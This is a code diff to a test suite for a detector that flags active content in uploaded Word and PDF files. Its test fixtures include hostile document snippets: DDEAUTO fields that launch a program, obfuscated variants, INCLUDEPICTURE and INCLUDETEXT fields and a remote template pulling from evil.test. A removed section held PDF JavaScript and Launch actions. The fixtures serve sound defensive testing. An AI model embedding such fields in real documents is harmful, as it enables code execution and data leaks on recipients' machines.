@@ -1,4 +1,3 @@
-import { deflateSync } from 'node:zlib'
 import { describe, expect, it } from 'vitest'
 import { hasActiveContent } from '../../functions/src/media/active-content.ts'
 import { compoundFile, docx } from '../support/word.ts'
@@ -18,11 +17,20 @@ const external = (type: string, target: string) =>
 const settings = 'word/_rels/settings.xml.rels'
 
 describe('A Word document', () => {
-  it.each([
+  it.each<readonly [string, Buffer]>([
     ['with nothing but text', docx()],
     [
       'with links to the web and to a mail address',
       referring(external('hyperlink', 'https://doi.org/10.1/x&amp;y')),
+    ],
+    [
+      'with a page number, a date, a list of contents, and a text that speaks of a link',
+      docx({
+        more: {
+          'word/footer1.xml':
+            '<w:ftr><w:instrText> PAGE \\* MERGEFORMAT </w:instrText><w:fldSimple w:instr=" TOC \\o &quot;1-3&quot; "/><w:t>LINK, DDE</w:t></w:ftr>',
+        },
+      }),
     ],
     ['with a mail address', referring(external('hyperlink', 'mailto:asha@sarvodaya.test'))],
     ['with a link that names no scheme', referring(external('hyperlink', 'www.example.org'))],
@@ -49,7 +57,7 @@ describe('A Word document', () => {
     expect(await hasActiveContent('docx', bytes)).toBe(false)
   })
 
-  it.each([
+  it.each<readonly [string, Buffer]>([
     [
       'a template from the web',
       referring(external('attachedTemplate', 'https://evil.test/x.dotm'), settings),
@@ -106,6 +114,24 @@ describe('A Word document', () => {
       'macros, by the relationship',
       referring('Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="x.bin"'),
     ],
+    ...[
+      [
+        'another program that is asked',
+        '<w:instrText xml:space="preserve"> DDEAUTO c:\\x.exe "/k" </w:instrText>',
+      ],
+      [
+        'the same in pieces',
+        '<w:instrText>DD</w:instrText></w:r><w:r><w:instrText a="b">E x y</w:instrText>',
+      ],
+      ['the same, with characters by number', '<w:instrText>&#68;&#x44;E x y</w:instrText>'],
+      ['a picture that is taken in', '<w:fldSimple w:instr=\' INCLUDEPICTURE "https://evil.test/x.png" \'/>'],
+      ['a file that is taken in', '<x:instrText>INCLUDETEXT "\\\\evil.test\\x"</x:instrText>'],
+    ].map(
+      ([what, field]) =>
+        [`a field: ${what}`, docx({ more: { 'word/header1.xml': `<w:hdr>${field}</w:hdr>` } })] as const,
+    ),
+    ['a number that is no character', referring(external('image', 'https://evil.test/&#x110000;&#1114112;'))],
+    ['texts past all measure', docx({ more: { 'word/a.xml': ' '.repeat(33 * 1024 * 1024) } })],
     ['macros, by the part', docx({ more: { 'word\\VbaProject.bin': 'x' } })],
     ['macros, by the type', docx({ type: 'application/vnd.ms-word.document.macroEnabled.main+xml' })],
     ['two parts of one name', docx({ more: { 'WORD/document.xml': '<w:document/>' } })],
@@ -141,39 +167,5 @@ describe('An old Word document', () => {
     ['with an object of another program', Buffer.concat([compoundFile(), compoundFile('ObjectPool')]), true],
   ])('%s', async (_what, bytes, isActive) => {
     expect(await hasActiveContent('doc', bytes)).toBe(isActive)
-  })
-})
-
-describe('A PDF', () => {
-  const pdf = (...objects: (string | Buffer)[]) =>
-    Buffer.concat(['%PDF-1.7\n', ...objects, '\n%%EOF'].map((part) => Buffer.from(part)))
-  const compressed = (objects: string | Buffer) =>
-    pdf(
-      '1 0 obj<</Type/ObjStm/Filter/FlateDecode/Length 9>>stream\r\n',
-      deflateSync(objects),
-      '\nendstream endobj',
-    )
-
-  it.each([
-    ['of text', pdf('1 0 obj<</Type/Catalog>>endobj')],
-    ['that speaks of scripts', pdf('BT (HTML/CSS/JavaScript, /JS, /Launch, /EmbeddedFile) Tj ET')],
-    ['with links', pdf('1 0 obj<</S/URI/URI(https://example.org)>>endobj')],
-    ['with compressed objects', compressed('<</Type/Catalog>>')],
-    ['with objects compressed in another way', pdf('1 0 obj<</Type/ObjStm>>stream\nnot deflated')],
-  ])('%s is taken', async (_what, bytes) => {
-    expect(await hasActiveContent('pdf', bytes)).toBe(false)
-  })
-
-  it.each([
-    ['a script', pdf('1 0 obj<</S/JavaScript/JS(app.alert(1))>>endobj')],
-    ['a script in other letters', pdf('1 0 obj<</S /J#61vaScript/JS(app.alert(1))>>endobj')],
-    ['a program to start', pdf('1 0 obj<</S\n/Launch/F(cmd.exe)>>endobj')],
-    ['a file inside', pdf('1 0 obj<</Type/EmbeddedFile>>stream\nMZ\nendstream endobj')],
-    ['a list of files', pdf('1 0 obj<</Names<</EmbeddedFiles 2 0 R>>>>endobj')],
-    ['a compressed script', compressed('<</S/JavaScript/JS(app.alert(1))>>')],
-    ['more object streams than anybody needs', pdf('/ObjStm stream\n'.repeat(2_001))],
-    ['objects past all measure', compressed(Buffer.alloc(17 * 1024 * 1024))],
-  ])('with %s is refused', async (_what, bytes) => {
-    expect(await hasActiveContent('pdf', bytes)).toBe(true)
   })
 })
